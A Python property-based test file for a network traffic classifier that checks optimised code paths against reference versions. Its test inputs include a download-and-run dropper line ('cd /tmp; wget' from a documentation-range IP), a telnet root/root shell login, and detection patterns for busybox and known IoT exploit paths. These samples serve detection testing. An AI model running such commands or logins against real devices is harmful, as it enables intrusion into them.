"""The classifier's other fast paths give exactly what the plain code gave (issue 14).

``looks_like_http``'s early return, the evidence bounders compiled per declared
column, the shared classifications and verdicts of unknown-application streams, and
the text a signature regex needs before it is searched.
"""

from __future__ import annotations

import re
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from teiten.classify.classifier import classify
from teiten.classify.evidence import EVIDENCE, bounded
from teiten.classify.http import looks_like_http
from teiten.classify.literals import required_text
from teiten.classify.session import SessionClassifier
from teiten.classify.signatures import load_signatures
from teiten.schema import Column

_METHOD_START = re.compile(rb"[A-Z][A-Z_-]{1,31} +[^\s]")
_KNOWN_METHODS = frozenset(b"GET POST HEAD PUT DELETE OPTIONS CONNECT TRACE PATCH".split())


def reference_looks_like_http(data: bytes) -> bool:
    line = data[:512].lstrip(b"\r\n").split(b"\n", 1)[0]
    if not _METHOD_START.match(line):
        return False
    return b" HTTP/" in line or line.split(b" ", 1)[0] in _KNOWN_METHODS


def reference_bounded(value: Any, column: Column) -> tuple[Any, int]:
    """``bounded`` as it was: the declaration read for every value."""
    if value is None:
        return None, 0
    if column.dtype == "str":
        text = str(value)
        if column.limit and len(text) > column.limit:
            return text[: column.limit], 1
        return text, 0
    if column.dtype in ("list_str", "list_struct"):
        items = list(value)
        cut = 0
        if column.limit and len(items) > column.limit:
            cut, items = len(items) - column.limit, items[: column.limit]
        item = column.fields[0] if column.dtype == "list_str" and column.fields else None
        if column.dtype == "list_struct":
            item = Column("item", "struct", "", fields=column.fields)
        out = []
        for x in items:
            y, n = reference_bounded(x, item) if item is not None else (str(x), 0)
            out.append(y)
            cut += n
        return out, cut
    if column.dtype == "struct":
        out_struct: dict[str, Any] = {}
        cut = 0
        for f in column.fields:
            out_struct[f.name], n = reference_bounded(value.get(f.name), f)
            cut += n
        return out_struct, cut
    return value, 0


def values_of(column: Column) -> st.SearchStrategy[Any]:
    """Values for a declared column, around its limits (and None)."""
    size = (column.limit or 4) + 2
    if column.dtype == "str":
        return st.none() | st.text(max_size=size)
    if column.dtype == "list_str":
        item = values_of(column.fields[0]) if column.fields else st.text(max_size=3)
        return st.none() | st.lists(item, max_size=min(size, 70))
    if column.dtype in ("struct", "list_struct"):
        struct = st.fixed_dictionaries({f.name: values_of(f) for f in column.fields})
        if column.dtype == "struct":
            return st.none() | struct
        return st.none() | st.lists(struct, max_size=min(size, 4))
    return st.none() | st.integers()


@given(st.binary(max_size=80) | st.sampled_from([b"GET / HTTP/1.1\r\n", b"\r\nPOST /x", b"Xy z"]))
def test_looks_like_http_is_the_reference(data: bytes) -> None:
    assert looks_like_http(data) == reference_looks_like_http(data)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_bounders_are_the_reference(data: st.DataObject) -> None:
    for name, column in EVIDENCE.items():
        value = data.draw(values_of(column), label=name)
        assert bounded(value, column) == reference_bounded(value, column)


def test_unknown_streams_share_classifications_and_verdicts() -> None:
    a = classify(b"\x00\x81random", dst_port=9999)
    b = classify(b"\x00\x82other", dst_port=9999)
    assert a is b and a.app == "unknown" and not a.indicators
    assert classify(b"\x00\x81random", dst_port=9998) is not a
    sc = SessionClassifier()
    va, vb = sc.verdict(b"\x00\x81random", 9999, b""), sc.verdict(b"\x00\x82other", 9999, b"")
    assert va is vb
    dropper = sc.verdict(b"\x00cd /tmp; wget http://198.51.100.7/x\n", 9999, b"")
    assert dropper is not va and dropper.columns["indicators"][0] == "http://198.51.100.7/x"


def test_ports_share_the_columns_and_evidence_of_equal_unknown_classifications() -> None:
    sc = SessionClassifier()
    a, b = sc.verdict(b"\x00\x81x", 1000, b""), sc.verdict(b"\x00\x81x", 1001, b"")
    assert a is not b and a.classification.dst_port == 1000 and b.classification.dst_port == 1001
    assert a.columns is b.columns and a.evidence is b.evidence and a.cut == b.cut
    fresh = SessionClassifier().verdict(b"\x00\x81x", 1001, b"")
    assert (fresh.columns, fresh.evidence, fresh.cut) == (b.columns, b.evidence, b.cut)
    telnet = sc.verdict(b"\xff\xfb\x01root\r\nroot\r\nsh\r\n", 1000, b"")
    assert telnet.columns is not a.columns and telnet.classification.app == "telnet"


def test_required_text() -> None:
    assert required_text(re.compile(r"(?:^|;\s*)(?:/bin/)?busybox\s+[A-Z]+")) == "busybox"
    assert required_text(re.compile(r"^/ctrlt/DeviceUpgrade_1\b")) == "/ctrlt/DeviceUpgrade_1"
    assert required_text(re.compile(r"(?i)^/HNAP1/")) == ""  # case ignored: no needle
    assert required_text(re.compile(r"a(?i:b)c|d")) == ""  # the top level is an alternation
    assert required_text(re.compile(r"ab?cd*e")) == "a"
    assert required_text(re.compile(r"\\x45\\x4[cC]")) == "\\x45\\x4"


SIGNATURE_PATTERNS = sorted(
    {
        c.text.split("~ /", 1)[1][:-1]
        for s in load_signatures().signatures
        for c in s.match_all + tuple(x for g in (*s.any_of, *s.none_of) for x in g)
        if c.key in ("path", "body", "command", "soap_action")
    }
)


@settings(max_examples=200)
@given(st.sampled_from(SIGNATURE_PATTERNS), st.data())
def test_no_match_without_the_required_text(pattern: str, data: st.DataObject) -> None:
    compiled = re.compile(pattern)
    needle = required_text(compiled)
    pieces = [needle, needle[:-1], needle[1:], ";", " ", "/", "echo ", "busybox ", "()", "{"]
    text = "".join(data.draw(st.lists(st.sampled_from(pieces) | st.text(max_size=4), max_size=8)))
    if needle not in text:
        assert compiled.search(text) is None
